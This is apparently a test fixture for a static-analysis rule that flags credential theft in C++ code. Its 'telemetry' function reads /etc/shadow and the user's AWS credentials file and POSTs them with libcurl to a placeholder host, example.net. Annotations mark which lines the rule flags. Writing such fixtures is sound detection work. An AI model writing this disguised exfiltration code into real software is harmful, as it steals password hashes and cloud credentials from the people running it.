// Fixture for c-exfil-credentials (C++ with libcurl; one finding per file, at the first credential).
// RULEID: /etc/shadow read and POSTed to a literal URL (~/.aws/credentials after it: same finding).
// OK, before it: a user-supplied path and getenv("AWS_REGION") are not credential names.
#include <curl/curl.h>
#include <fstream>
#include <sstream>
#include <string>

static std::string slurp(const std::string &p) {
    std::ifstream in(p);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

void telemetry(const std::string &user_file) {
    // ok: c-exfil-credentials
    std::string body = slurp(user_file);
    // ok: c-exfil-credentials
    const char *region = getenv("AWS_REGION");
    // ruleid: c-exfil-credentials
    body += slurp("/etc/shadow");
    body += slurp(std::string(getenv("HOME")) + "/.aws/credentials");
    CURL *c = curl_easy_init();
    curl_easy_setopt(c, CURLOPT_URL, "https://metrics-cdn.example.net/v2/collect");
    curl_easy_setopt(c, CURLOPT_POSTFIELDS, body.c_str());
    curl_easy_perform(c);
    (void)region;
}
